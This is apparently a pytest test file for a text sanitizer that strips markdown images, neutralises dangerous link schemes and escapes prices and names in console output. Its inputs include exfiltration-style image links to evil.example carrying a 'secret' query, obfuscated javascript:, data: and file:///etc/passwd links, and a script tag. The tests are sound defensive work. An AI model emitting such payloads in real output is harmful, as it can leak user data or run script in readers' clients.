"""Words of others: nothing of them is fetched, run or taken for a formula."""

import pytest

from console.text import Piece, in_words, pieces_of, plain, safe, with_names


@pytest.mark.parametrize(
    "picture",
    [
        "![x](https://evil.example/?q=secret)",
        "![x][ref]\n\n[ref]: https://evil.example/x.png",
        "`a\n\n![x](https://evil.example)`",
        '<a href="`">![x](https://evil.example)`',
        "| `a | ![x](https://evil.example) ` |\n| - | - |",
        "<div>\n ```\n\n![x](https://evil.example)",
        "$`$ ![x](https://evil.example) `",
        "[![x](https://evil.example)](https://ok.example)",
    ],
)
def test_no_picture_is_left_wherever_it_hides(picture):
    assert "![" not in safe(picture)


@pytest.mark.parametrize(
    "link",
    [
        "[a](javascript:alert(1))",
        "[a]( JavaScript:alert(1))",
        "[a](<javascript:alert(1)>)",
        "[a](&#106;avascript:alert(1))",
        "[a](data:text/html,x)",
        "[a](vbscript:x)",
        "[a](file:///etc/passwd)",
    ],
)
def test_no_link_leads_to_a_program(link):
    assert "](" not in safe(link)


def test_an_address_in_brackets_that_is_a_program_is_no_link():
    assert safe("<javascript:alert(1)>").startswith("\\<")


@pytest.mark.parametrize(
    "words", ["[a](https://ok.example/?x=1&y=2)", "[b](mailto:a@b.example)", "[c](#here)", "<https://ok.example>"]
)
def test_links_of_the_usual_kinds_stay(words):
    assert safe(words) == words


@pytest.mark.parametrize(
    ("words", "shown"),
    [
        ("$5 and $6", r"\$5 and \$6"),
        ("from $10-$20 (or 5$)", r"from \$10-\$20 (or 5\$)"),
        ("USD$30,000 of $2.50", r"USD\$30,000 of \$2.50"),
        ("`$HOME` costs $5", r"`$HOME` costs \$5"),
        (r"already \$5", r"already \$5"),
        ("$x^2$ and $$y$$", "$x^2$ and $$y$$"),
        (r"\(a+b\) and \[c\]", "$a+b$ and $$c$$"),
        ("~5 and ~6 but ~~gone~~", r"\~5 and \~6 but ~~gone~~"),
    ],
)
def test_a_price_is_a_price_and_a_formula_a_formula(words, shown):
    assert safe(words) == shown


def test_code_is_left_as_it_is():
    answer = "Look:\n\n```python\ncost = '$5' # ![x](y)\n```\nDone."

    assert pieces_of(answer) == [Piece("Look:"), Piece("cost = '$5' # ![x](y)", True, "python"), Piece("Done.")]


def test_code_that_is_still_coming_is_code_already():
    assert pieces_of("```js\nlet a") == [Piece("let a", True, "js")]


def test_a_longer_fence_holds_a_shorter_one():
    assert pieces_of("````md\n```\nx\n```\n````") == [Piece("```\nx\n```", True, "md")]


@pytest.mark.parametrize(
    "name", ["<script>alert(1)</script>", "![x](y)", "*a* _b_ `c`", ":red[x] :material/home:", "$a$"]
)
def test_a_name_is_shown_as_it_is(name):
    shown = plain(name)

    assert shown.replace("\\", "") == name
    assert all(shown[at - 1] == "\\" for at, sign in enumerate(shown) if sign in "<>![]()*_`:$")


@pytest.mark.parametrize(
    ("name", "words"),
    [
        ("RateLimited", "rate limited"),
        ("Unreachable", "unreachable"),
        ("NotAStream", "not a stream"),
        ("KeyMissing", "key missing"),
        ("HTTPFailed", "http failed"),
        ("", ""),
        ("no such thing.", "no such thing."),
    ],
)
def test_the_name_of_a_failure_is_told_in_words(name, words):
    assert in_words(name) == words


def test_names_in_backticks_are_code_whatever_signs_they_hold():
    said = r"`a/b` should hold no `/`, `?`, `#`, `%` or `\`, says `a&b`"

    assert with_names(said) == said


def test_a_bracket_in_backticks_and_a_backtick_alone_stay_words():
    assert with_names("`a]b`, `c` and `") == r"\`a\]b\`, `c` and \`"
